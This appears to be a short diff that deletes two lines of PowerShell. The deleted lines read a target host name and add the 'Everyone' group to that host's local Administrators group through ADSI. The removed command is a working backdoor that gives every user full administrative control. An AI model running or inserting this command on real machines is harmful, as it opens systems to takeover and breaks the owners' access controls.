@@ -1,2 +1,0 @@
-$target = Read-Host
-([ADSI]"WinNT://$target/Administrators,group").Add('WinNT://Everyone')
